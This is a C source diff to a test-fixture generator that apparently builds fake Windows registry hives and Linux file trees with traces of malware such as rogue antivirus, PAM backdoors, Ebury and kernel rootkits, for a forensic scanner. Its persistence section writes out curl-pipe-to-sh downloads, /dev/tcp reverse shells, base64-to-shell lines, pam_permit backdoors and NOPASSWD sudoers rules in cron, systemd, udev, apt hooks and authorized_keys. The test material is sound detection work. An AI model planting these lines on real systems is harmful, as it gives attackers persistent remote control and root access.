@@ -2,6 +2,7 @@
 #include "make_family_traces.h"
 
 #include "make_hive.h"
+#include "make_permissions.h"
 #include "make_windows_volume.h"
 
 #include <stdbool.h>
@@ -9,11 +10,15 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <strings.h>
 #include <sys/stat.h>
+#include <unistd.h>
 
-/* Where a row goes.  SYSTEM: into both control sets; LAST_GOOD: only into ControlSet003. */
-enum place { SYSTEM, LAST_GOOD_GONE, SOFTWARE, USER, FILES, LINE };
-enum type { NUMBER, TEXT, EXPAND };
+/* Where a row goes.  SYSTEM: into both control sets; LAST_GOOD: only into ControlSet003; CLASSES:
+ * the user's UsrClass.dat.  LIST: texts with '|' between them; KEY: a key without values; GONE: the
+ * value is deleted; PERMISSIONS: text is a kind of make_permissions.h. */
+enum place { SYSTEM, LAST_GOOD_GONE, SOFTWARE, USER, CLASSES, FILES, LINE };
+enum type { NUMBER, TEXT, EXPAND, LIST, KEY, GONE, PERMISSIONS };
 
 struct trace {
     const char *set;
@@ -50,6 +55,14 @@ static const char marker[] = "harmless marker: stands where a program would be\n
     { set, place, key, name, TEXT, text, 0 }
 #define E(set, place, key, name, text)                                                             \
     { set, place, key, name, EXPAND, text, 0 }
+#define M(set, place, key, name, texts)                                                            \
+    { set, place, key, name, LIST, texts, 0 }
+#define K(set, place, key)                                                                         \
+    { set, place, key, NULL, KEY, NULL, 0 }
+#define G(set, place, key, name)                                                                   \
+    { set, place, key, name, GONE, NULL, 0 }
+#define P(set, place, key, kind)                                                                   \
+    { set, place, key, NULL, PERMISSIONS, kind, 0 }
 #define F(set, path)                                                                               \
     { set, FILES, path, NULL, TEXT, NULL, 0 }
 #define W(set, path, text)                                                                         \
@@ -77,6 +90,18 @@ static const struct trace traces[] = {
     T(S, SYSTEM, "Control\\SafeBoot", "AlternateShell", "cmd.exe"),
     T(S, SYSTEM, CARD, "DhcpDefaultGateway", "192.0.2.1"),
     N(S, USER, "Software\\" CV "\\Explorer\\Advanced", "Hidden", 2),
+    T(S, CLASSES, ".txt\\OpenWithList", "a", "NOTEPAD.EXE"),
+    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli"),
+    M(S, SYSTEM, "Control\\Lsa", "Security Packages", "kerberos|msv1_0|schannel|wdigest"),
+    M(S, SYSTEM, "Control\\Session Manager", "BootExecute", "autocheck autochk *"),
+    P(S, SYSTEM, "Services", "open"),
+    P(S, SYSTEM, "Services\\wuauserv", "open"),
+    P(S, SYSTEM, "Services\\wuauserv\\Parameters", "open"),
+    P(S, SYSTEM, "Services\\BITS", "open"),
+    P(S, SYSTEM, "Services\\wscsvc", "open"),
+    P(S, SYSTEM, "Services\\Browser", "below-only"),
+    P(S, SOFTWARE, NT, "open"),
+    P(S, SOFTWARE, IFEO "notepad.exe", "installer"),
     W(S, ETC "hosts",
       "# sample\r\n127.0.0.1       localhost\r\n192.0.2.7 printer.example.invalid\r\n"),
     W(S, "WINDOWS/system.ini", "; for 16-bit app support\r\n[drivers]\r\nwave=mmdrv.dll\r\n"),
@@ -96,6 +121,15 @@ static const struct trace traces[] = {
     N(S, SOFTWARE, "Policies\\Microsoft\\Windows\\WindowsUpdate\\AU", "NoAutoUpdate", 1),
     N(S, SYSTEM, FIREWALL, "EnableFirewall", 0),
     N(S, SYSTEM, "Services\\wuauserv", "Start", 4),
+    N(S, SYSTEM, "Services\\BITS", "Start", 4),
+    N(S, SYSTEM, "Services\\wscsvc", "Start", 4),
+    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
+    P(S, SYSTEM, "Services\\wuauserv", "deny-everyone"),
+    P(S, SOFTWARE, NT "\\Svchost", "read-only"),
+    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli|vendorfilter"),
+    M(S, SYSTEM, "Control\\Session Manager", "BootExecute", "autocheck autochk *|lsdelete"),
+    T(S, CLASSES, "exefile\\shell\\open\\command", "", "\"%1\" %*"),
+    T(S, CLASSES, ".exe\\shell\\scan\\command", "", "\"C:\\Tools\\scan.exe\" \"%1\""),
     N(S, SYSTEM, TCPIP, "TcpNumConnections", 16777214),
     T(S, SYSTEM, CARD, "NameServer", "192.0.2.53,198.51.100.53"),
     T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "127.0.0.1:8118"),
@@ -119,6 +153,15 @@ static const struct trace traces[] = {
       "readme.txt\r\n"),
     F(S, "RECYCLER/S-1-5-21-1078081533-1767777339-725345543-1003/Dc1.exe"),
     F(S, EVERYBODY "Application Data/{106F6393-7B0D-2FCB-0000-106F532F3ADE}/setup.exe"),
+#undef S
+
+/* --- another version ------------------------------------------------------------------------- */
+#define S "windows-vista"
+    T(S, SOFTWARE, NT, "CurrentVersion", "6.0"),
+    F(S, "Program Files/Windows Defender/MSASCui.exe"),
+#undef S
+#define S "windows-eight"
+    T(S, SOFTWARE, NT, "CurrentVersion", "6.2"),
 #undef S
 
 /* --- Windows families ----------------------------------------------------------------------- */
@@ -164,6 +207,7 @@ static const struct trace traces[] = {
     L(S, "WINDOWS/system.ini", "DEVICEMB=50954319427"),
     SERVICE(S, "amsint32", "\\??\\C:\\WINDOWS\\system32\\drivers\\kqmvz.sys"),
     F(S, "WINDOWS/system32/drivers/kqmvz.sys"),
+    K(S, SYSTEM, "Control\\SafeBoot\\Minimal\\Empty\\Inner"),
     {S, LAST_GOOD_GONE, "Control\\SafeBoot\\Minimal", NULL, TEXT, NULL, 0},
     {S, LAST_GOOD_GONE, "Control\\SafeBoot\\Network", NULL, TEXT, NULL, 0},
     N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
@@ -212,16 +256,31 @@ static const struct trace traces[] = {
     N(S, SOFTWARE, "Policies\\Microsoft\\Windows\\WindowsUpdate\\AU", "NoAutoUpdate", 1),
     L(S, ETC "hosts", "127.0.0.1 liveupdate.symantec.com"),
     L(S, ETC "hosts", "127.0.0.1 www.windowsupdate.com"),
+    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli|C:\\WINDOWS\\Temp\\x"),
+    M(S, SYSTEM, "Control\\Lsa", "Security Packages", "kerberos|mimilib|msv1_0|schannel|wdigest"),
+    M(S, SYSTEM, "Control\\Session Manager", "BootExecute",
+      "autocheck autochk *|C:\\WINDOWS\\Temp\\boot.exe"),
+    P(S, SYSTEM, "Services\\wuauserv", "deny-everyone"),
+    P(S, SYSTEM, "Services\\wuauserv\\Parameters", "system-only"),
+    P(S, SYSTEM, "Services\\BITS", "system-only"),
+    P(S, SYSTEM, "Services\\wscsvc", "nobody"),
+    P(S, SOFTWARE, IFEO "regedit.exe", "deny-set-value"),
 #undef S
 #define S "Windows/SettingsDamage#2"
     T(S, SOFTWARE, WINLOGON, "Shell", "Explorer.exe C:\\WINDOWS\\Config\\csrss.exe"),
     T(S, SOFTWARE, IFEO "MsMpEng.exe", "Debugger", "svchost.exe"),
     T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "http=127.0.0.1:5555"),
     N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
+    G(S, SOFTWARE, HIDDEN, "CheckedValue"),
 #undef S
 #define S "RogueSecuritySoftware"
     T(S, USER, "Software\\" RUN, "Security Protection",
       "C:\\Documents and Settings\\mari\\Application Data\\defender.exe"),
+    F(S, MARI "Application Data/defender.exe"),
+    T(S, CLASSES, ".exe\\shell\\open\\command", "", "\"C:\\ave.exe\" /START \"%1\" %*"),
+    T(S, CLASSES, ".exe", "", "secfile"),
+    T(S, CLASSES, "secfile\\shell\\open\\command", "", "\"C:\\ave.exe\" /START \"%1\" %*"),
+    T(S, CLASSES, "secfile", "Content Type", "application/x-msdownload"),
     F(S, "WINDOWS/system32/winscenter.exe"),
     F(S, EVERYBODY "Application Data/isecurity.exe"),
     F(S, "WINDOWS/spoolsystem.exe"),
@@ -232,6 +291,16 @@ static const struct trace traces[] = {
     N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
     N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
     T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "http=127.0.0.1:33820"),
+#undef S
+#define S "RogueSecuritySoftware#2"
+    T(S, USER, "Software\\" RUN, "Security Tool", "\"%APPDATA%\\12345\\st.exe\" /auto"),
+    F(S, MARI "Application Data/12345/st.exe"),
+    T(S, USER, "Software\\" RUN, "Internet Security 2010",
+      "C:\\WINDOWS\\system32\\rundll32.exe \"%USERPROFILE%\\Application Data\\is.exe.dll\",Start"),
+    F(S, MARI "Application Data/is.exe.dll"),
+    T(S, SOFTWARE, RUN, "Security Protection", "%ProgramData%\\elsewhere\\x\\sp.exe -x"),
+    T(S, CLASSES, "exefile\\shell\\open\\command", "", "\"C:\\x\\pav.exe\" /START \"%1\" %*"),
+    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
 #undef S
 #define S "Winwebsec"
     T(S, USER, "Software\\" CV "\\RunOnce", DIGITS, "C:\\ProgramData\\" DIGITS "\\" DIGITS ".exe"),
@@ -320,6 +389,44 @@ static const struct trace traces[] = {
     W(S, "etc/cron.hourly/logs.sh",
       "#!/bin/sh\n# cp /lib/libudev.so is not here\nexec /usr/sbin/logrotate\n"),
     W(S, "var/www/html/index.php", "stands for a page: echo htmlspecialchars($_GET['q']);\n"),
+    F(S, "bin/ps"),
+    F(S, "usr/bin/lsof"),
+    F(S, "bin/ls"),
+    F(S, "bin/netstat"),
+    F(S, "usr/sbin/sshd"),
+    F(S, "usr/bin/top.distrib"),
+    F(S, "lib/x86_64-linux-gnu/libkeyutils.so.1.10"),
+    F(S, "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
+    F(S, "lib/x86_64-linux-gnu/security/pam_unix.so"),
+    W(S, "usr/bin/top", "put there by somebody\n"),
+    W(S, "var/lib/dpkg/info/procps.md5sums",
+      "4bf0e80fd4598f185147b477abe9eb4b  bin/ps\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "usr/bin/lsof\n4bf0e80fd4598f185147b477abe9eb4b  bin/ls\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "bin/netstat\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "usr/sbin/sshd\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "usr/bin/top\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "lib/x86_64-linux-gnu/libkeyutils.so.1.10\n4bf0e80fd4598f185147b477abe9eb4b  "
+      "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2\n"),
+    W(S, "var/lib/dpkg/info/libpam-modules:amd64.md5sums",
+      "4bf0e80fd4598f185147b477abe9eb4b  lib/x86_64-linux-gnu/security/pam_unix.so\n"),
+    W(S, "var/lib/dpkg/info/libpam-modules:amd64.list",
+      "/.\n/lib\n/lib/x86_64-linux-gnu/security/pam_unix.so\n/lib/x86_64-linux-gnu/security/"
+      "pam_plain.so\n"),
+    /* had ps before procps did; its list was left */
+    W(S, "var/lib/dpkg/info/former.md5sums", "00000000000000000000000000000000  bin/ps\n"),
+    W(S, "var/lib/dpkg/info/tops.md5sums", "9c539d8b7551f57d14211402b3bbbb2d  usr/bin/top\n"),
+    W(S, "var/lib/dpkg/diversions",
+      "/usr/bin/top\n/usr/bin/top.distrib\ntops\n/usr/bin/x\n/usr/bin/x.old\n:\n"),
+    F(S, "lib/x86_64-linux-gnu/security/pam_plain.so"),
+    W(S, "etc/modules", "# modules of this machine\nloop\n"),
+    W(S, "etc/modprobe.d/local.conf", "blacklist pcspkr\ninstall usb-storage /bin/true\n"),
+    W(S, "etc/udev/rules.d/70-local.rules", "# rules of this machine\n"),
+    W(S, "etc/environment", "PATH=\"/usr/local/bin:/usr/bin:/bin\"\n"),
+    W(S, "etc/bash.bashrc", "# for all\nPS1='$ '\n"),
+    W(S, "etc/apt/apt.conf.d/20local",
+      "DPkg::Post-Invoke {\"rm -f /var/cache/apt/archives/*.deb || true\";};\n"),
+    W(S, "etc/ssh/sshd_config", "PermitRootLogin no\n"),
+    W(S, "etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"),
 #undef S
 #define S "linux-administered"
     L(S, "etc/ld.so.preload", "/usr/lib/libsnoopy.so"),
@@ -336,6 +443,47 @@ static const struct trace traces[] = {
     W(S, "tmp/kinsing", "no miner: this file keeps one away\n"),
     F(S, "lib/libselinux.so.1"),
     F(S, "usr/lib/libudev.so.1"),
+    W(S, "usr/sbin/sshd", "stands for an OpenSSH of the administrator's own\n"),
+    F(S, "lib/x86_64-linux-gnu/security/pam_duo.so"),
+    L(S, "etc/pam.d/sshd", "session optional /opt/vendor/lib/pam_vendor.so"),
+    L(S, "etc/pam.d/sshd", "account required pam_exec.so /usr/local/sbin/may-log-on"),
+    L(S, "etc/modules", "reptile_nic"),
+    L(S, "etc/modprobe.d/local.conf",
+      "install snd /sbin/modprobe --ignore-install snd && /usr/local/sbin/mixer"),
+    L(S, "etc/rc.local", "modprobe -q reptiles; insmod /opt/vendor/card.ko"),
+    L(S, "etc/rc.local", "find /tmp -name '.X*' -mtime +7 -delete"),
+    L(S, "etc/rc.local", "/tmp/once.sh"),
+    W(S, "etc/cron.daily/list",
+      "#!/bin/sh\nwget -q -O /tmp/.list https://example.invalid/list\nmv /tmp/.list "
+      "/var/cache/list\n"),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/backup-on-plug\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"add\", RUN+=\"/bin/sh -c 'echo $kernel >> /tmp/usb.log'\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"change\", SUBSYSTEM==\"drm\", RUN+=\"/home/mari/.local/bin/dock\""),
+    L(S, "etc/bash.bashrc", "export LD_PRELOAD=/home/mari/.local/lib/libx.so"),
+    L(S, "etc/pam.d/sshd",
+      "auth required pam_exec.so expose_authtok quiet /usr/local/sbin/check-password"),
+    L(S, "etc/udev/rules.d/70-local.rules", "KERNEL==\"random\", MODE=\"0666\""),
+    L(S, "etc/bash.bashrc",
+      "alias getnvm='curl -o- https://example.invalid/install.sh | bash >/dev/null 2>&1'"),
+    L(S, "etc/bash.bashrc",
+      "  curl -s https://example.invalid/install.sh | bash -s -- --prefix ~/.local"),
+    L(S, "etc/bash.bashrc", "export TMPFILE=/tmp/.bash-$USER; [ -f /tmp/.motd ] && cat /tmp/.motd"),
+    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
+    L(S, "etc/apt/apt.conf.d/20local",
+      "APT::Update::Post-Invoke-Success {\"curl -fsS https://example.invalid/ping || true\";};"),
+    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys/%u"),
+    L(S, "etc/sudoers", "deploy ALL=(ALL) NOPASSWD: ALL"),
+    L(S, "etc/sudoers", "www-data ALL=(root) NOPASSWD: /usr/sbin/service"),
+    L(S, "etc/sudoers", "jenkins ALL=(ALL) NOPASSWD: ALL"),
+    W(S, "etc/systemd/system-generators/disks",
+      "#!/bin/sh\nmkdir -p /tmp/.disks\nexec /usr/local/sbin/disks \"$1\"\n"),
+    W(S, "etc/xdg/autostart/tool.desktop",
+      "[Desktop Entry]\nExec=/home/mari/.local/bin/tool --quiet\n"),
+    W(S, "var/spool/cron/atjobs/a00001",
+      "#!/bin/sh\ncd /tmp || exit 1\nsh /tmp/report.sh > /tmp/.report\n"),
     W(S, "var/www/html/console.php", "stands for a developer's console: eval($_POST['code']);\n"),
     W(S, "var/www/html/db.php",
       "stands for a page: $db->exec($_POST['q']); Shell::exec($_GET['x']);\n"),
@@ -375,6 +523,9 @@ static const struct trace traces[] = {
     F(S, "etc/rc3.d/S99selinux"),
     F(S, "tmp/gates.lod"),
     F(S, "usr/bin/dpkgd/ps"),
+    F(S, "usr/bin/pythno"),
+    F(S, "etc/init.d/VsystemsshMdt"),
+    W(S, "bin/ps", "stands for a false ps\n"),
 #undef S
 #define S "Linux/Mirai"
     F(S, "etc/rcS.d/S95Baby.sh"),
@@ -399,12 +550,141 @@ static const struct trace traces[] = {
 #define S "Linux/Skidmap"
     L(S, "etc/crontab", "*/1 * * * * root curl -fsSL http://pm.ipfswallet.tk/pm.sh -o /dev/null"),
     F(S, "usr/include/pm.tar.gz"),
+    F(S, "lib/udev/ssd_control/kmeminfo.ko"),
+    F(S, "var/lib/netlink.ko"),
+    F(S, "usr/bin/pamdicks"),
 #undef S
 #define S "Linux/PamBackdoor"
     L(S, "etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/lib/.cache/log"),
     L(S, "etc/pam.d/sshd", "auth sufficient /var/tmp/.x/pam_help.so"),
     F(S, "var/tmp/.x/pam_help.so"),
     L(S, "etc/pam.d/common-auth", "auth sufficient pam_permit.so"),
+    L(S, "etc/pam.d/sshd", "session optional /opt/x/pam_x.so"),
+    L(S, "etc/pam.d/sshd", "auth sufficient pam_permit.so"),
+    L(S, "etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /opt/x/log"),
+#undef S
+#define S "Linux/Skidmap#pam"
+    L(S, "etc/crontab", "*/1 * * * * root curl -fsSL http://a.powerofwish.com/x -o /dev/null"),
+    W(S, "lib/x86_64-linux-gnu/security/pam_unix.so", "stands for a false pam_unix\n"),
+#undef S
+#define S "Linux/PamBackdoor#modules"
+    W(S, "lib/x86_64-linux-gnu/security/pam_unix.so", "stands for a false pam_unix\n"),
+#undef S
+#define S "Linux/PamBackdoor#stuck"
+    L(S, "etc/pam.d/sshd", "auth required /var/tmp/.x/pam_only.so"),
+#undef S
+#define S "Linux/PreloadRootkit#loader"
+    W(S, "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "stands for a changed loader\n"),
+#undef S
+#define S "Linux/Ebury"
+    W(S, "lib/x86_64-linux-gnu/libkeyutils.so.1.10", "stands for a changed libkeyutils\n"),
+    F(S, "lib64/libns2.so"),
+    F(S, "lib64/libsbr.so"),
+    W(S, "usr/sbin/sshd", "stands for a false sshd\n"),
+#undef S
+#define S "Linux/ReplacedTools"
+    W(S, "bin/ls", "stands for a false tool\n"),
+    W(S, "bin/netstat", "stands for a false tool\n"),
+    W(S, "usr/bin/lsof", "stands for a false tool\n"),
+#undef S
+#define S "Linux/KernelRootkit"
+    F(S, "lib/modules/6.1.0-1-amd64/extra/diamorphine.ko"),
+    F(S, "lib/modules/6.1.0-1-amd64/kernel/drivers/net/reptile.ko.xz"),
+    F(S, "lib/udev/reptile/reptile"),
+    F(S, "usr/share/zov_f/zov_latest"),
+    L(S, "etc/modules", "diamorphine"),
+    L(S, "etc/modprobe.d/local.conf", "install ext5 /sbin/modprobe diamorphine"),
+    L(S, "etc/modprobe.d/local.conf", "install ext6 /bin/sh /var/tmp/.m/load"),
+    L(S, "etc/modprobe.d/local.conf",
+      "install ext7 /bin/sh -c \"curl -s http://bad.invalid/m | sh\""),
+    F(S, "var/tmp/.m/load"),
+    L(S, "etc/rc.local", "insmod /lib/modules/6.1.0-1-amd64/extra/diamorphine.ko"),
+    L(S, "etc/rc.local", "insmod /var/tmp/.m/x.ko"),
+    F(S, "var/tmp/.m/x.ko"),
+    L(S, "etc/udev/rules.d/70-local.rules", "ACTION==\"add\", RUN+=\"/lib/udev/reptile\""),
+#undef S
+#define S "Linux/Persistence"
+    L(S, "var/spool/cron/root", "*/5 * * * * curl -s http://bad.invalid/x | sh"),
+    L(S, "var/spool/cron/root", "@daily echo eA== | base64 -d | sh"),
+    L(S, "var/spool/cron/root", "* * * * * bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
+    L(S, "var/spool/cron/root", "* * * * * /tmp/.hid/run"),
+    L(S, "var/spool/cron/root", "17 * * * * /tmp/plainrun"),
+    F(S, "tmp/.hid/run"),
+    W(S, "etc/systemd/system/u0.service",
+      "[Service]\nExecStart=/bin/sh -c 'curl -s http://bad.invalid/x | sh '\n"),
+    W(S, "etc/systemd/system/u1.service",
+      "[Service]\nExecStart=/bin/sh -c 'echo eA== | base64 -d | sh '\n"),
+    W(S, "etc/systemd/system/u2.service",
+      "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1'\n"),
+    W(S, "etc/systemd/system/u3.service", "[Service]\nExecStart=/var/tmp/.hid/unit\n"),
+    F(S, "var/tmp/.hid/unit"),
+    W(S, "etc/systemd/system/ssh.service.d/x.conf",
+      "[Service]\nExecStartPost=/bin/sh -c 'curl -s http://bad.invalid/x | sh '\n"),
+    W(S, "etc/systemd/system/u4.service", "[Service]\nExecStart=/tmp/plain\n"),
+    L(S, "etc/ld.so.preload", "/tmp/x.so"),
+    L(S, "etc/ld.so.preload", "/usr/lib/.h/x.so"),
+    L(S, "etc/ld.so.preload", "/opt/x/y.so"),
+    L(S, "root/.ssh/authorized_keys",
+      "command=\"curl -s http://bad.invalid/x | sh \" ssh-ed25519 AAAABad x"),
+    L(S, "root/.ssh/authorized_keys",
+      "command=\"echo eA== | base64 -d | sh \" ssh-ed25519 AAAABad x"),
+    L(S, "root/.ssh/authorized_keys",
+      "command=\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 \" ssh-ed25519 AAAABad x"),
+    L(S, "root/.ssh/authorized_keys", "ssh-rsa AAAAStandsForAKey mdrfckr"),
+    L(S, "etc/rc.local", "curl -s http://bad.invalid/x | sh"),
+    L(S, "etc/rc.local", "echo eA== | base64 -d | sh"),
+    L(S, "etc/rc.local", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
+    L(S, "etc/rc.local", "nohup /dev/shm/.r/run &"),
+    L(S, "etc/rc.local", "/tmp/plain start"),
+    F(S, "dev/shm/.r/run"),
+    L(S, "etc/bash.bashrc", "curl -s http://bad.invalid/x | sh >/dev/null 2>&1 &"),
+    L(S, "etc/bash.bashrc", "echo eA== | base64 -d | sh"),
+    L(S, "etc/bash.bashrc", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
+    L(S, "etc/bash.bashrc", "/tmp/.p/run &"),
+    L(S, "etc/bash.bashrc", "curl -s http://bad.invalid/x | sh"),
+    F(S, "tmp/.p/run"),
+    L(S, "etc/environment", "LD_PRELOAD=/tmp/a.so"),
+    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/.x/b.so"),
+    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/libjemalloc.so"),
+    L(S, "etc/udev/rules.d/70-local.rules", "ACTION==\"add\", RUN+=\"/bin/sh /tmp/.u/run\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"add\", RUN+=\"/bin/sh -c 'curl -s http://bad.invalid/x | sh'\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"helper run:+\""),
+    F(S, "tmp/.u/run"),
+    W(S, "etc/systemd/system-generators/g0", "#!/bin/sh\ncurl -s http://bad.invalid/x | sh\n"),
+    W(S, "var/spool/cron/atjobs/a00002",
+      "#!/bin/sh\n# atrun uid=0 gid=0\ncurl -s http://bad.invalid/x | sh\n"),
+    W(S, "etc/xdg/autostart/s0.desktop",
+      "[Desktop Entry]\nExec=sh -c 'curl -s http://bad.invalid/x | sh '\n"),
+    L(S, "etc/apt/apt.conf.d/20local",
+      "APT::Update::Pre-Invoke {\"curl -s http://bad.invalid/x | sh\";};"),
+    W(S, "etc/systemd/system-generators/g1", "#!/bin/sh\necho eA== | base64 -d | sh\n"),
+    W(S, "var/spool/cron/atjobs/a00003",
+      "#!/bin/sh\n# atrun uid=0 gid=0\necho eA== | base64 -d | sh\n"),
+    W(S, "etc/xdg/autostart/s1.desktop",
+      "[Desktop Entry]\nExec=sh -c 'echo eA== | base64 -d | sh '\n"),
+    L(S, "etc/apt/apt.conf.d/20local",
+      "APT::Update::Pre-Invoke {\"echo eA== | base64 -d | sh\";};"),
+    W(S, "etc/systemd/system-generators/g2",
+      "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"),
+    W(S, "var/spool/cron/atjobs/a00004",
+      "#!/bin/sh\n# atrun uid=0 gid=0\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"),
+    W(S, "etc/xdg/autostart/s2.desktop",
+      "[Desktop Entry]\nExec=sh -c 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 '\n"),
+    L(S, "etc/apt/apt.conf.d/20local",
+      "APT::Update::Pre-Invoke {\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\";};"),
+    W(S, "etc/systemd/system-generators/g3", "#!/bin/sh\n/dev/shm/.g/run &\n"),
+    W(S, "var/spool/cron/atjobs/a00005", "#!/bin/sh\n# atrun uid=0 gid=0\n/dev/shm/.g/run &\n"),
+    W(S, "etc/xdg/autostart/s3.desktop", "[Desktop Entry]\nExec=/dev/shm/.g/run\n"),
+    L(S, "etc/apt/apt.conf.d/20local", "APT::Update::Pre-Invoke {\"/dev/shm/.g/run &\";};"),
+    F(S, "dev/shm/.g/run"),
+    L(S, "etc/apt/apt.conf.d/20local", "DPkg::Pre-Invoke {\"sh /tmp/hook\";};"),
+    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile /dev/shm/keys/%u"),
+    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/.k/%u"),
+    L(S, "etc/sudoers", "mari ALL=(root) NOPASSWD: /tmp/tool"),
+    L(S, "etc/sudoers", "www-data ALL=(ALL) NOPASSWD: ALL"),
+    L(S, "etc/sudoers", "ALL ALL=(ALL) NOPASSWD:ALL"),
 #undef S
 #define S "PHP/WebShell"
     W(S, "var/www/html/wp-content/uploads/2024/05/a.php",
@@ -417,6 +697,8 @@ static const struct trace traces[] = {
     W(S, "var/www/html/e.php", "no opening tag, stands for a page: passthru($_GET['c']);\n"),
     W(S, "var/www/html/f.php",
       "no opening tag, stands for a page: default_action = \"FilesMan\"\n"),
+    W(S, "opt/shop/wp-content/uploads/2024/06/g.php",
+      "no opening tag, stands for a page: system($_POST['c']);\n"),
 #undef S
 #define S "Linux/RedisIntrusion"
     W(S, "root/.ssh/authorized_keys2",
@@ -433,13 +715,67 @@ static void path_of(char *out, size_t room, const char *root, const char *path) 
     }
 }
 
+static void set_list(hive_h *h, const char *key, const char *name, const char *texts) {
+    const char *list[16];
+    char copy[512];
+    char *rest = copy;
+    size_t n = 0;
+
+    (void)snprintf(copy, sizeof(copy), "%s", texts);
+    while (n < 16 && (list[n] = strsep(&rest, "|")) != NULL) {
+        n++;
+    }
+    make_multi(h, key, name, list, n);
+}
+
+static void drop_value(hive_h *h, const char *key, const char *name) {
+    hive_node_h node = make_key(h, key);
+    hive_value_h *have = hivex_node_values(h, node);
+    hive_set_value values[32] = {{.key = NULL}};
+    size_t n = 0;
+
+    for (size_t i = 0; have != NULL && have[i] != 0 && n < 32; i++) {
+        values[n].key = hivex_value_key(h, have[i]);
+        values[n].value = hivex_value_value(h, have[i], &values[n].t, &values[n].len);
+        if (strcasecmp(values[n].key, name) == 0) {
+            free(values[n].key);
+            free(values[n].value);
+        } else {
+            n++;
+        }
+    }
+    if (hivex_node_set_values(h, node, n, values, 0) != 0) {
+        perror(key);
+        exit(1); /* NOLINT(concurrency-mt-unsafe) */
+    }
+    for (size_t i = 0; i < n; i++) {
+        free(values[i].key);
+        free(values[i].value);
+    }
+    free(have);
+}
+
 static void set_value(hive_h *h, const char *key, const struct trace *t) {
-    if (t->type == NUMBER) {
+    switch (t->type) {
+    case NUMBER:
         make_dword(h, key, t->name, t->number);
-    } else if (t->type == TEXT) {
+        break;
+    case TEXT:
         make_text(h, key, t->name, t->text);
-    } else {
+        break;
+    case EXPAND:
         make_expand(h, key, t->name, t->text);
+        break;
+    case LIST:
+        set_list(h, key, t->name, t->text);
+        break;
+    case GONE:
+        drop_value(h, key, t->name);
+        break;
+    case KEY:
+    case PERMISSIONS: /* when the hive is closed */
+        (void)make_key(h, key);
+        break;
     }
 }
 
@@ -450,9 +786,9 @@ static void drop_key(hive_h *h, const char *key) {
     }
 }
 
-static void into_control_sets(hive_h *h, const struct trace *t) {
-    static const char *const sets[] = {"ControlSet001", "ControlSet003"};
+static const char *const sets[] = {"ControlSet001", "ControlSet003"};
 
+static void into_control_sets(hive_h *h, const struct trace *t) {
     for (size_t i = 0; i < 2; i++) {
         char key[512];
 
@@ -465,7 +801,18 @@ static void into_control_sets(hive_h *h, const struct trace *t) {
     }
 }
 
-/* The rows of one hive, opened only when there are any. */
+static void set_permissions(const char *full, const struct trace *t) {
+    const char *keys[2] = {t->where, NULL};
+    char in_sets[2][512];
+
+    for (size_t i = 0; t->place == SYSTEM && i < 2; i++) {
+        (void)snprintf(in_sets[i], sizeof(in_sets[i]), "%s\\%s", sets[i], t->where);
+        keys[i] = in_sets[i];
+    }
+    make_permissions(full, keys, t->place == SYSTEM ? 2 : 1, t->text);
+}
+
+/* The rows of one hive, opened only when there are any, and made when it is not there. */
 static void into_hive(const char *root, const char *path, const char *set, enum place place,
                       enum place other) {
     hive_h *h = NULL;
@@ -478,6 +825,10 @@ static void into_hive(const char *root, const char *path, const char *set, enum 
         if (strcmp(t->set, set) != 0 || (t->place != place && t->place != other)) {
             continue;
         }
+        if (h == NULL && access(full, F_OK) != 0) {
+            make_text_file(root, path, "");
+            (void)make_hive_start(full);
+        }
         h = h == NULL ? make_hive_open(full) : h;
         if (place == SYSTEM) {
             into_control_sets(h, t);
@@ -487,6 +838,12 @@ static void into_hive(const char *root, const char *path, const char *set, enum 
     }
     if (h != NULL) {
         make_hive_close(h);
+    }
